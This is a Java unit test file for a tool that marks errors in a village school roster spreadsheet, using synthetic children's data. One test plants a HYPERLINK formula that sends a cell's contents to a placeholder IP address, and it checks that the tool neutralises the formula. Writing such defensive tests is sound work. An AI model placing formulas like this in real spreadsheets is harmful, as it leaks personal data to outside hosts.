package org.nuanyang.documents;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.ss.usermodel.FillPatternType;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.usermodel.WorkbookFactory;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.nuanyang.documents.MarkedWorkbook.Mark;

@DisplayName("改错表")
class MarkedWorkbookTest {
    private static final Mark ID = new Mark("花名册", 4, 1, "身份证号", "99010120170521104", "只有 17 位。请对照户口本补全。");
    private static final Mark PHONE = new Mark("花名册", 6, 2, "监护人电话", "1398888", "只有 7 位。请改为 11 位手机号，或留空。");

    @Test
    void keepsTheLayoutAndOnlyTheRowsToMend() throws IOException {
        var file = bytes(roster(new XSSFWorkbook()));
        var marked = new MarkedWorkbook(file, Map.of("花名册", Set.of(3, 5)), List.of(ID, PHONE)).write();
        assertThat(marked.extension()).isEqualTo("xlsx");
        Golden.keep("marked.xlsx", marked.content());
        Golden.matches("marked.tsv", Tsv.of(marked.content()));
    }

    @Test
    void givesAnOldWorkbookBackAsAnOldWorkbook() throws IOException {
        var file = bytes(roster(new HSSFWorkbook()));
        var marked = new MarkedWorkbook(file, Map.of("花名册", Set.of(3, 5)), List.of(ID, PHONE)).write();
        assertThat(marked.extension()).isEqualTo("xls");
        try (var read = WorkbookFactory.create(new ByteArrayInputStream(marked.content()))) {
            assertThat(read).isInstanceOf(HSSFWorkbook.class);
            var cell = read.getSheet("花名册").getRow(2).getCell(1);
            assertThat(cell.getStringCellValue()).isEqualTo("99010120170521104");
            assertThat(cell.getCellComment().getString().getString()).contains("17 位");
            assertThat(cell.getCellStyle().getFillPattern()).isEqualTo(FillPatternType.SOLID_FOREGROUND);
        }
    }

    @Test
    void writesOutWhatARowBorrowedFromTheRowsThatAreGone() throws IOException {
        var file = bytes(roster(new XSSFWorkbook()));
        var marked = new MarkedWorkbook(file, Map.of("花名册", Set.of(3, 5)), List.of(ID, PHONE)).write();
        try (var read = WorkbookFactory.create(new ByteArrayInputStream(marked.content()))) {
            var sheet = read.getSheet("花名册");
            assertThat(sheet.getRow(2).getCell(3).getStringCellValue()).isEqualTo("青石村");
            assertThat(sheet.getRow(3).getCell(4).getStringCellValue()).isEqualTo("青石小学");
            assertThat(sheet.getRow(3).getCell(0).getStringCellValue()).isEqualTo("小雨");
        }
    }

    @Test
    void turnsACsvIntoAWorkbook() throws IOException {
        var csv = "姓名,身份证号,电话\n小满,99010120170521104,14200001111\n石头,,14300002222\n".getBytes(Charset.forName("GB18030"));
        var sheet = org.nuanyang.importing.Workbook.read(csv).sheets().getFirst().name();
        var marked = new MarkedWorkbook(csv, Map.of(sheet, Set.of(3)), List.of(new Mark(sheet, 2, 1, "身份证号", "", "只有 17 位。"))).write();
        var text = Tsv.of(marked.content());
        assertThat(text).contains("小满\t99010120170521104 {只有 17 位。}\t14200001111").doesNotContain("石头");
    }

    @Test
    void givesNoFormulaBackThatReachesOut() throws IOException {
        try (var workbook = new XSSFWorkbook()) {
            var row = workbook.createSheet("花名册").createRow(0);
            row.createCell(0).setCellFormula("HYPERLINK(\"http://192.0.2.1/?\"&B1,\"小满\")");
            row.createCell(1).setCellFormula("1+1");
            row.getCell(0).setCellValue("小满");
            var marked = new MarkedWorkbook(bytes(workbook), Map.of(), List.of()).write();
            try (var read = WorkbookFactory.create(new ByteArrayInputStream(marked.content()))) {
                var cells = read.getSheetAt(0).getRow(0);
                assertThat(cells.getCell(0).getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
                assertThat(cells.getCell(0).getStringCellValue()).isEqualTo("小满");
                assertThat(cells.getCell(1).getCellFormula()).isEqualTo("1+1");
            }
        }
    }

    @Test
    void neverComputesAFormula() throws IOException {
        try (var workbook = new XSSFWorkbook()) {
            var row = workbook.createSheet("花名册").createRow(0);
            row.createCell(0).setCellValue("小满");
            row.createCell(1).setCellFormula("1+1");
            workbook.getSheetAt(0).createRow(1).createCell(0).setCellValue("石头");
            var marked = new MarkedWorkbook(bytes(workbook), Map.of("花名册", Set.of(2)), List.of()).write();
            assertThat(Tsv.of(marked.content())).doesNotContain("#2");
        }
    }

    /** Title, headings, four children of whom the village is merged over two and the school written as 同上, a foot. */
    private static Workbook roster(Workbook workbook) {
        var sheet = workbook.createSheet("花名册");
        String[][] cells = {
            {"青石小学花名册"},
            {"姓名", "身份证号", "监护人电话", "村", "学校"},
            {"小满", "990101201705211041", "15400003333", "青石村", "青石小学"},
            {"石头", "99010120170521104", "16300006666", "", "同上"},
            {"小云", "990101201705211033", "16300006667", "柳树村", "同上"},
            {"小雨", "99010120170521105X", "1398888", "柳树村", "〃"},
            {"填表人：周敏"}
        };
        for (int row = 0; row < cells.length; row++)
            for (int column = 0; column < cells[row].length; column++)
                if (!cells[row][column].isEmpty())
                    (column == 0 ? sheet.createRow(row) : sheet.getRow(row)).createCell(column).setCellValue(cells[row][column]);
        sheet.addMergedRegion(new CellRangeAddress(0, 0, 0, 4));
        sheet.addMergedRegion(new CellRangeAddress(2, 3, 3, 3));
        sheet.setColumnWidth(1, 22 * 256);
        return workbook;
    }

    private static byte[] bytes(Workbook workbook) throws IOException {
        var out = new ByteArrayOutputStream();
        workbook.write(out);
        return out.toByteArray();
    }
}
